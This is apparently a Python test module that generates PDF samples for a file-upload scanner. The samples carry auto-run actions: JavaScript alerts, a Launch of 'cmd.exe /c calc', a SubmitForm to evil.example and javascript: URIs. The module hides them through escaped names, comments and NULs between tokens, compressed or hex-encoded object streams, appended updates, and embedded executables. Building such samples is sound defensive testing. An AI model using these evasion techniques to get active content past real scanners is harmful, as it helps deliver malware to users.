"""PDFs that run something: every action, in every spelling, wherever an object can lie."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from tests import samples as files
from tests.corpus.raw_pdf import page_of, stream, with_catalog, write, write_packed
from tests.corpus.sample import Sample, evasion, odd

FAMILY = "PDF that runs something"
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
ACTIONS = {
    "JavaScript": JAVASCRIPT,
    "JavaScript in a stream": b"<</S/JavaScript/JS 7 0 R>>",
    "Launch": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "Launch of a file": b"<</Type/Action/S/Launch/F(program.exe)>>",
    "SubmitForm": b"<</S/SubmitForm/F(https://evil.example)>>",
    "ImportData": b"<</S/ImportData/F(a.fdf)>>",
    "GoToE": b"<</S/GoToE/T<</R/C/N(a.pdf)>>>>",
    "Rendition": b"<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>",
    "script as address": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
    "spelt with escapes": b"<</S/J#61v#61Script/JS(app.alert\\(1\\))>>",
    "key spelt with escapes": b"<</#53/#4aavaScript/JS(app.alert\\(1\\))>>",
    "all escaped": b"<</S/" + "".join(f"#{ord(c):02x}" for c in "Launch").encode() + b"/F(a.exe)>>",
    "blanks": b"<</S \r\n\t/Launch /F(a.exe)>>",
    "NUL blanks": b"<</S\x00/Launch/F(a.exe)>>",
    "comment between": b"<</S % harmless\n/Launch/F(a.exe)>>",
    "two comments between": b"<</S%a\r%b\n /Launch/F(a.exe)>>",
    "name as an object": b"/Launch",
}


def samples() -> Iterator[Sample]:
    base = page_of()
    for name, action in ACTIONS.items():
        objects = with_catalog({**base, 6: action}, b"/OpenAction 6 0 R")
        yield evasion(FAMILY, name, "cv.pdf", write(objects))
        yield evasion(FAMILY, f"{name}, packed", "cv.pdf", write_packed(objects))
    yield from _hidden(base)
    yield evasion(FAMILY, "in a ZIP", "all.zip", files.zip_of({"cv.pdf": write({**base, 6: JAVASCRIPT})}))
    yield evasion(FAMILY, "in the catalogue", "cv.pdf", write(with_catalog(base, b"/OpenAction" + JAVASCRIPT)))
    yield evasion(FAMILY, "on a page", "cv.pdf", write({**base, 3: base[3][:-2] + b"/AA<</O" + JAVASCRIPT + b">>>>"}))
    yield evasion(FAMILY, "XFA form", "cv.pdf", write(with_catalog(base, b"/AcroForm<</XFA[(a) 6 0 R]/Fields[]>>")))
    yield evasion(FAMILY, "RichMedia", "cv.pdf", write({**base, 6: b"<</Type/Annot/Subtype/RichMedia>>"}))
    yield odd(FAMILY, "no objects", "cv.pdf", b"%PDF-1.7\n%%EOF\n")
    yield odd(FAMILY, "a list of streams", "cv.pdf", b"%PDF-1.7\n" + b"stream\n" * 50_000)
    yield from _files_within(base)


def _hidden(base: dict[int, bytes]) -> Iterator[Sample]:
    """Objects where a reader finds them and a search does not look."""
    packed = zlib.compress(b"6 0 " + JAVASCRIPT)
    head = b"/N 1/First 4"
    odd_types = {
        "type escaped": b"/Type/Obj#53tm" + head,
        "type behind a padding": b"/Type/ObjStm" + head + b"/X(" + b"x" * 3000 + b")",
        "type before a string with obj": b"/Type/ObjStm" + head + b"/X(1 0 obj)",
        "type before a string like an object": b"/Type/ObjStm" + head + b"/X(1 0 obj <<)",
        "no type": head,
    }
    for name, entries in odd_types.items():
        content = b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (entries, len(packed), packed)
        yield evasion(FAMILY, f"packed, {name}", "cv.pdf", write({**base, 7: content}))
    hexadecimal = packed.hex().encode() + b">"
    content = b"<</Type/ObjStm%s/Filter[/ASCIIHexDecode/FlateDecode]/Length %d>>stream\n%s\nendstream" % (
        head, len(hexadecimal), hexadecimal,
    )  # fmt: skip
    yield evasion(FAMILY, "packed twice", "cv.pdf", write({**base, 7: content}))
    content = b"<</Type/ObjStm%s/DecodeParms<</Predictor 12/Columns 4>>/Filter/FlateDecode>>stream\n%s\nendstream"
    yield evasion(FAMILY, "packed, scrambled", "cv.pdf", write({**base, 7: content % (head, packed)}))
    yield evasion(
        FAMILY, "inside a plain stream", "cv.pdf", write({**base, 7: stream(b"8 0 obj\n" + JAVASCRIPT + b"\nendobj")})
    )
    yield evasion(FAMILY, "in an update", "cv.pdf", write(base) + b"\n6 0 obj\n" + JAVASCRIPT + b"\nendobj\n%%EOF\n")
    yield evasion(
        FAMILY, "packed, not a list", "cv.pdf", write({**base, 7: stream(b"6 0 " + JAVASCRIPT, b"/Type/ObjStm" + head)})
    )


def _files_within(base: dict[int, bytes]) -> Iterator[Sample]:
    program = b"MZ\x90\x00\x03\x00" + bytes(54) + b"\x40\x00\x00\x00PE\x00\x00" + bytes(200)
    inner = {
        "program": program,
        "ELF": b"\x7fELF\x02\x01\x01" + bytes(60),
        "shortcut": bytes.fromhex("4c0000000114020000000000c0") + bytes(40),
        "PDF": write(base),
        "ZIP": files.zip_of({"a.txt": b"a"}),
        "DOCX": files.docx_of(["Ada"]),
        "old Word": files.old_doc(),
        "RAR": b"Rar!\x1a\x07\x01\x00" + bytes(50),
        "page": b"<html><script>alert(1)</script></html>",
    }
    for name, content in inner.items():
        for is_packed in (False, True):
            objects = {**base, 6: stream(content, b"/Type/EmbeddedFile", packed=is_packed)}
            how = "packed" if is_packed else "plain"
            yield evasion("files in a PDF", f"{name}, {how}", "cv.pdf", write(objects))
